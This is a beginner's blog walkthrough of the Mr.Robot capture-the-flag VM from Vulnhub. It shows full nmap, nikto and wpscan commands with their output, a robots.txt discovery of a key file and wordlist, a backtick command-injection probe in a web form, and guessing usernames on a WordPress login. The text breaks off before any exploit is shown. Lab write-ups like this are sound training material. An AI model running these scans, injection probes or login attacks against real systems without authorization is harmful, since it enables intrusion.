Fork me on GitHub

Mr.Robot Walkthrough

WARNING: There will be spoilers to obtaining the 3 keys on Mr.Robot VM from Vulnhub. This is your warning! If you wish to penetration test this machine yourself, do not scroll down much further.
General disclaimer: I am by no means an expert penetration tester nor do I have a lot of experience doing penetration testing. This walkthrough is from the perspective of an amateur whom is trying to become better. The goal is for me to eventially take the OCSP. That being said, I had a bit of help from some colleagues from my company getting started but they by no means gave me the answers. I will be posting some of my hardships from a beginner perspective.The Mr.Robot VM download from Vulnhub can be found here:,151/

The creator of this VM is Leon Johnson

Here's the basic description:

Based on the show, Mr. Robot.

This VM has three keys hidden in different locations. Your goal is to find all three. Each key is progressively difficult to find.

The VM isn't too difficult. There isn't any advanced exploitation or reverse engineering. The level isconsidered beginner-intermediate.

So let's kick it off!

1. Service Enumeration

The first thing any penetration tester will do is run a Nmap scan against their target. You can find Nmap pretty easily via a Google search but if you are lazy here ya go

I decided to basically just run a hail marry of Nmap scans which was essentially nmap -A -p1-65535 -vvv target_ip_address

-A = Enable OS detection, version detection, script scanning, and traceroute
-p1-65535 = Port scan from 1 to 65335
-vvv = Extra verbose output.

I got the following output for my Nmap scan:

Spoiler: Highlight to view
Starting Nmap 7.60 ( ) at 2018-03-10 01:36 EST
NSE: Loaded 146 scripts for scanning.
NSE: Script Pre-scanning.
NSE: Starting runlevel 1 (of 2) scan.
Initiating NSE at 01:36
Completed NSE at 01:36, 0.00s elapsed
NSE: Starting runlevel 2 (of 2) scan.Initiating NSE at 01:36
Completed NSE at 01:36, 0.00s elapsed
Initiating ARP Ping Scan at 01:36
Scanning [1 port]
Completed ARP Ping Scan at 01:36, 0.04s elapsed (1 total hosts)
Initiating Parallel DNS resolution of 1 host. at 01:36
Completed Parallel DNS resolution of 1 host. at 01:36, 0.04s elapsed
Initiating Connect Scan at 01:36
Scanning [1000 ports]
Discovered open port 80/tcp on
Discovered open port 443/tcp on
Completed Connect Scan at 01:36, 4.71s elapsed (1000 total ports)
Initiating Service scan at 01:36
Scanning 2 services on
Completed Service scan at 01:36, 12.05s elapsed (2 services on 1 host)
Initiating OS detection (try #1) against
NSE: Script scanning
NSE: Starting runlevel 1 (of 2) scan.
Initiating NSE at 01:36
Completed NSE at 01:36, 0.89s elapsed
NSE: Starting runlevel 2 (of 2) scan.
Initiating NSE at 01:36
Completed NSE at 01:36, 0.00s elapsed
Nmap scan report for
Host is up, received arp-response (0.00029s latency).
Scanned at 2018-03-10 01:36:02 EST for 20s
Not shown: 997 filtered ports
Reason: 997 no-responses
22/tcp  closed ssh      conn-refused
80/tcp  open   http     syn-ack      Apache httpd
|_http-favicon: Unknown favicon MD5: D41D8CD98F00B204E9800998ECF8427E
| http-methods:
|_  Supported Methods: GET HEAD POST OPTIONS
|_http-server-header: Apache
|_http-title: Site doesn't have a title (text/html).
443/tcp open   ssl/http syn-ack      Apache httpd
|_http-favicon: Unknown favicon MD5: D41D8CD98F00B204E9800998ECF8427E
| http-methods:|_  Supported Methods: GET HEAD POST OPTIONS
|_http-server-header: Apache
|_http-title: Site doesn't have a title (text/html).
| ssl-cert: Subject:
| Issuer:
| Public Key type: rsa
| Public Key bits: 1024
| Signature Algorithm: sha1WithRSAEncryption
| Not valid before: 2015-09-16T10:45:03
| Not valid after:  2025-09-13T10:45:03
| MD5:   3c16 3b19 87c3 42ad 6634 c1c9 d0aa fb97
| SHA-1: ef0c 5fa5 931a 09a5 687c a2c2 80c4 c792 07ce f71b
| MIGJAoGBANlxG/38e8Dy/mxwZzBboYF64tu1n8c2zsWOw8FFU0azQFxv7RPKcGwt
| sALkdAMkNcWS7J930xGamdCZPdoRY4hhfesLIshZxpyk6NoYBkmtx+GfwrrLh6mU
| yvsyno29GAlqYWfffzXRoibdDtGTn9NeMqXobVTTKTaR0BGspOS5AgMBAAEwDQYJ
| 1TooZOYbvgFAqK8DPOl7EkzASVeu0mS5orfptWjOZ/UWVZujSNj7uu7QR4vbNERx
| ncZrydr7FklpkIN5Bj8SYc94JI9GsrHip4mpbystXkxncoOVESjRBES/iatbkl0=
MAC Address: 08:00:27:AD:EE:84 (Oracle VirtualBox virtual NIC)
Device type: general purpose
Running: Linux 3.X|4.X
OS CPE: cpe:/o:linux:linux_kernel:3cpe:/o:linux:linux_kernel:4
OS details: Linux 3.10 - 4.8
TCP/IP fingerprint:

Uptime guess: 198.839 days (since Wed Aug 23 06:28:44 2017)
Network Distance: 1 hop
TCP Sequence Prediction: Difficulty=253 (Goodluck!)
IP ID Sequence Generation: All zeros

1   0.29 ms

NSE: Script Post-scanning.
NSE: Starting runlevel 1 (of 2) scan.
Initiating NSE at 01:36Completed NSE at 01:36, 0.00s elapsed
NSE: Starting runlevel 2 (of 2) scan.
Initiating NSE at 01:36
Completed NSE at 01:36, 0.00s elapsed
Read data files from: /usr/bin/../share/nmap
OS and Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 19.86 seconds
           Raw packets sent: 29 (2.970KB) | Rcvd: 13 (882B)

Based on the above Nmap scan, we can see that this host is running only 2 services.

The first service is SSH. However, the potential for a SSH attack vector is a no-go situation due to the fact the state of the port is closed and it's showing a refused connection:

22/tcp  closed ssh      conn-refused

The other service we see running appears to be a web service based on the two ports (80, 443) that are open. Port 80 and port 443 are typically reserved for web services, port 80 being the insecure port and port 443 being the default port for HTTPS based connections. Additionally, the service shown is "http" and the version is shown as "Apache httpd":80/tcp open  http    syn-ack     Apache httpd
443/tcp open  ssl/http syn-ack     Apache httpd

2. Web (Server/Service)

The web service is the only thing attackable running on this system. So I take my trusty web browser and direct myself to the system's IP address.

I'm greeted with what appears to be a linux system booting up as seen below:

Once this "bootup" finishes, you are thrown into an Internet Relay Chat like window where "Mr.Robot" talks to you and presents you with valid commands.Rabbit Hole #1: So I sat there running through the different commands to see what they do.There was only one commandJoin which allowed for user input aside from your typical commands. I thought this might be one of the places I can perform some attack vectors. Well this command only accepted an email input with the typical format. I tried to trick this a few times by throwing backticks with commands like `echo whoami` and it would take this as input but didn't do anything. If you put even a valid email nothing happens either.

So probably after 15 to 20 minutes I'll admit I kept trying different ways to trick this join command until I had determined I went down a rabbit hole and this wasn't the attack vector at all.

Back on track: I proceeded to load another tool called Nikto which is pretty useful for scanning web servers. It was a pretty basic command nikto -h target_ip_address

The following results appeared from having Nikto take a look at this "website"

Spoiler: Highlight to view
root@kali:~# nikto -h
- Nikto v2.1.6
+ Target IP:
+ Target Hostname:
+ Target Port:        80
+ Start Time:         2018-03-10 23:38:03 (GMT-5)
+ Server: Apache
+ The X-XSS-Protection header is not defined. This header can hint to the user agent to protect against some forms of XSS
+ The X-Content-Type-Options headeris not set. This could allow the user agent to render the content of the site in a different fashion to the MIME type
+ Retrieved x-powered-by header: PHP/5.5.29
+ No CGI Directories found (use '-C all' to force check all possible dirs)
+ Server leaks inodes via ETags, header found with file /robots.txt, fields: 0x29 0x52467010ef8ad
+ Uncommon header 'tcn' found, with contents: list
+ Apache mod_negotiation is enabled with MultiViews, which allows attackers to easily brute force file names. See The following alternatives for 'index' were found: index.html, index.php
+ OSVDB-3092: /admin/: This might be interesting...
+ Uncommon header 'link' found, with contents: <>; rel=shortlink
+ /wp-links-opml.php: This WordPress script reveals the installed version.
+ OSVDB-3092: /license.txt: License file found may identify site software.
+ /admin/index.html: Admin login page/section found.
+ Cookie wordpress_test_cookie created without the httponly flag
+ /wp-login/: Admin login page/section found.
+ /wordpress/: A Wordpress installation was found.
+ /wp-admin/wp-login.php: Wordpress login found
+ /blog/wp-login.php: Wordpress login found+ /wp-login.php: Wordpress login found
+ 7535 requests: 0 error(s) and 17 item(s) reported on remote host
+ End Time:           2018-03-10 23:42:58 (GMT-5) (295 seconds)
+ 1 host(s) tested

So I noticed from the Nikto scan a few interesting things ranging from a robots.txt file to some Wordpress related folder hierarchy.

Once I noticed this system was running Wordpress, I busted out a tool scalled wpscan. In short this tool scans websites that are Wordpress based for version information, potential plugins, installed themes, etc. It will then output any potential vulnerabilities it finds related to the previously listed information.

Here's what I got with the following command wpscan --url target_ip_address --enumerate t

--url = the flag for what URL to scan
--enumerate t = enumeratethe plugins installed

Spoiler: Highlight to view
root@kali:~# wpscan --url --enumerate t
        __          ___   _____
        \ \        / /  __ \ / ____|
         \ \  /\  / /| |__) | (___   ___  __ _ _ __ ®
          \ \/  \/ / |  ___/ \___ \ / __|/ _` | '_ \
           \  /\  /  | |     ____) | (__| (_| | | | |
            \/  \/   |_|    |_____/ \___|\__,_|_| |_|WordPress Security Scanner by the WPScan Team
                       Version 2.9.3
          Sponsored by Sucuri -
   @_WPScan_, @ethicalhack3r, @erwan_lr, pvdl, @_FireFart_

[+] URL:
[+] Started: Wed Mar 28 04:04:06 2018

[+] robots.txt available under: ''
[!] The WordPress '' file exists exposing a version number
[+] Interesting header: SERVER: Apache
[+] Interesting header: X-FRAME-OPTIONS: SAMEORIGIN
[+] Interesting header: X-MOD-PAGESPEED:
[+] XML-RPC Interface available under:[+] WordPress version 4.3.15 (Released on 2018-01-16) identified from rss generator, rdf generator, atom generator, links opml
[!] 1 vulnerability identified from the version number

[!] Title: WordPress <= 4.9.4 - Application Denial of Service (DoS) (unpatched)

[+] Enumerating plugins from passive detection ...
[+] No plugins found

[+] Enumerating installed themes (only ones marked as popular) ...

   Time: 00:00:06 <===> (400 / 400) 100.00% Time: 00:00:06

[+] No themes found[+] Finished: Wed Mar 28 04:04:16 2018
[+] Requests Done: 746
[+] Memory used: 37.859 MB
[+] Elapsed time: 00:00:09

So based on the wpscan, I can see this website is running Wordpress 4.3.15 and there's one potential exploit which was a Denial of Service. We don't want to take this website offline so that's not what we need.

So I decided to give the robots.txt a shot and see what it had listed:

Spoiler: Highlight to view

User-agent: *

So I of course browsed to key-1-of-3.txt to get the key. The key will be listed at the bottom with how it was found.

After viewing the key file, I pointed my browser at this fsocity.dic file. It was actually a dictionary file with a hundreds of thousands of entries. I saved this file for later usage.

I proceeded to visit the admin page which is typically under I tried typing some random credentials in to see if it would eventually lock me out. Well lucky for me, I never got locked out or have it aske for a captcha.

Rabbit hole #2: I start to Google for ways of obtaining the username that makes posts on the Wordpress website. A lot of these sites all had the same information which I attempted to follow. Unfortunately, the person who is running this website never actually created a blog post. So this became a fruitless method of obtaining the necessary admin credentials. I eventried "user" since the errors on the site would say "user's blog."

I've never actually watched the Mr.Robot series so I did some Googling to get character's names. I remember from the various commands in the IRC window would always mention "fsociety." ( )

So I tried combinations of the names of all characters listed under fsociety. From first + last name, first name, last name, last name + first name, and I kept getting the following:

Wordpress error

